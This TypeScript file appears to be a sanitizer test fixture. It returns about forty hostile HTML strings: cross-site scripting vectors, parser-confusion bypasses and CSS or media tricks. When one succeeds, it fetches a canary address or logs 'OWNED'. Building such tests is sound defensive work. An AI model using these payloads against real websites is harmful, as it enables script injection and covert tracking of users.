/** Base64 of a GIF of one pixel. */
const pixel = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'

/**
 * Forty ways to run a script or to make a browser call home. Whoever succeeds calls `canary`, an address that counts its
 * visitors, or writes `OWNED` to the console.
 */
export function hostileHtml(canary: string): string[] {
  const run = `console.log('OWNED');fetch('${canary}/run')`
  const base64 = (text: string) => Buffer.from(text).toString('base64')
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`
  return [
    `<script>${run}</script>`,
    `<script src="${canary}/script.js"></script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x onerror="${run}">`,
    `<img src="${canary}/picture.png">`,
    `<img srcset="${canary}/picture.png 2x" src="data:image/gif;base64,${pixel}">`,
    `<img src="//${canary.replace(/^\w+:\/\//, '')}/relative.png">`,
    `<img src="data:image/svg+xml;base64,${base64(svg)}">`,
    `<img/src=x/onerror=${run}>`,
    `<img src="x" onerror=&#99;onsole.log('OWNED')>`,
    `<svg onload="${run}"></svg>`,
    `<svg><image href="${canary}/svg.png"/><use href="${canary}/svg#x"/></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
    `<svg><foreignObject><iframe src="${canary}/foreign"></iframe></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
    `<math href="javascript:${run}">x</math>`,
    `<iframe src="${canary}/frame"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
    `<object data="${canary}/object"></object><embed src="${canary}/embed">`,
    `<link rel="stylesheet" href="${canary}/style.css"><link rel="prefetch" href="${canary}/next">`,
    `<link rel="dns-prefetch" href="${canary}"><link rel="preconnect" href="${canary}">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<base href="${canary}/"><img src="base.png"><a href="base">x</a>`,
    `<style>@import url('${canary}/import.css'); body { background: url(${canary}/body.png) }</style><p>x</p>`,
    `<p style="background-image: url('${canary}/style.png')">x</p>`,
    `<p style="background: u\\72l(${canary}/escaped.png)">x</p>`,
    `<p style="list-style-image: image-set('${canary}/set.png' 1x); display: list-item">x</p>`,
    `<p style="width: expression(${run}); -moz-binding: url(${canary}/xbl)">x</p>`,
    `<p style="font-family: 'x'; content: url(${canary}/content); cursor: url(${canary}/cursor), auto">x</p>`,
    `<table background="${canary}/table.png"><tr><td background="${canary}/cell.png">x</td></tr></table>`,
    `<video src="${canary}/video" poster="${canary}/poster" autoplay onerror="${run}"></video>`,
    `<audio src="${canary}/audio" autoplay></audio><track src="${canary}/track">`,
    `<form action="${canary}/form"><input autofocus onfocus="${run}" type="image" src="${canary}/input.png"></form>`,
    `<body onload="${run}" background="${canary}/body"><a href="javascript:${run}">x</a></body>`,
    `<a href="java&#x09;script:${run}" ping="${canary}/ping">x</a><a href="data:text/html,<script>${run}</script>">x</a>`,
    `<details open ontoggle="${run}"><marquee onstart="${run}">x</marquee></details>`,
    `<noscript><p title="</noscript><img src=x onerror=&quot;${run}&quot;>"></noscript>`,
    `<template><img src="${canary}/template"></template><xmp><p title="</xmp><img src=${canary}/xmp>"></xmp><!--><img src=${canary}/comment>-->`,
  ]
}
